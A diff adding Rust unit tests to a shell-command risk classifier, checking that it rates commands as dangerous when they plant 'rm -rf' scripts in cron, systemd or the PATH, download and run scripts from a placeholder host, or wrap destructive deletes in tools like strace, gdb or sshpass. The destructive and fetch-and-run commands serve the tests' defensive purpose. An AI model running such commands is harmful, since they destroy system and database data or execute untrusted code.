@@ -236,3 +236,70 @@ fn garbage_never_panics() {
     let _ = assess(&"(".repeat(5000));
     let _ = assess("bash -c ".repeat(200).as_str());
 }
+
+/// Text written now and run later: by path, by name on the PATH, by cron,
+/// by systemd, by make.
+#[test]
+fn written_then_run() {
+    check_examples(&[
+        (
+            "printf '#!/bin/sh\\nrm -rf /srv/*\\n' | sudo tee /usr/local/bin/tidy >/dev/null; sudo tidy",
+            RiskLevel::Danger,
+        ),
+        (
+            "echo 'rm -rf /home/*' | sudo tee /etc/cron.daily/tidy",
+            RiskLevel::Danger,
+        ),
+        (
+            "printf '[Service]\\nExecStart=/bin/rm -rf /var/lib/mysql\\n' > /etc/systemd/system/w.service",
+            RiskLevel::Danger,
+        ),
+        (
+            "wget -qO /tmp/i.sh https://x.example/i && sh /tmp/i.sh",
+            RiskLevel::Danger,
+        ),
+        (
+            "curl -fsSLo inst.sh https://x.example/i; bash inst.sh",
+            RiskLevel::Danger,
+        ),
+        ("\"$SHELL\" -c 'rm -rf ~'", RiskLevel::Danger),
+        (
+            "echo 'echo hello' | sudo tee /usr/local/bin/hello; hello",
+            RiskLevel::Caution,
+        ),
+        (
+            "printf '[Service]\\nExecStart=/usr/bin/python3 -m http.server\\n' > ~/.config/systemd/user/web.service",
+            RiskLevel::Safe,
+        ),
+    ]);
+}
+
+/// Wrappers that start the command they are given, however they take it.
+#[test]
+fn wrappers_run_their_command() {
+    check_examples(&[
+        ("strace -f -o /tmp/t.log rm -rf ~", RiskLevel::Danger),
+        ("ltrace -o /dev/null rm -rf /etc", RiskLevel::Danger),
+        ("valgrind --tool=none rm -rf /usr", RiskLevel::Danger),
+        ("gdb -batch -ex run --args rm -rf ~", RiskLevel::Danger),
+        ("perf stat -e cycles rm -rf /boot", RiskLevel::Danger),
+        ("eatmydata rm -rf /var/lib/postgresql", RiskLevel::Danger),
+        ("fakeroot rm -rf ~", RiskLevel::Danger),
+        (
+            "gosu postgres rm -rf /var/lib/postgresql/data",
+            RiskLevel::Danger,
+        ),
+        ("sg docker -c 'docker volume prune -f'", RiskLevel::Danger),
+        (
+            "sshpass -p secret ssh ops@db 'rm -rf /var/lib/mysql'",
+            RiskLevel::Danger,
+        ),
+        ("xvfb-run -a rm -rf ~", RiskLevel::Danger),
+        ("faketime '2020-01-01' rm -rf /etc", RiskLevel::Danger),
+        ("numactl --cpunodebind=0 rm -rf /srv", RiskLevel::Danger),
+        ("strace -c ls /", RiskLevel::Safe),
+        ("valgrind ./a.out", RiskLevel::Safe),
+        ("gdb ./a.out", RiskLevel::Safe),
+        ("perf stat ls", RiskLevel::Safe),
+    ]);
+}
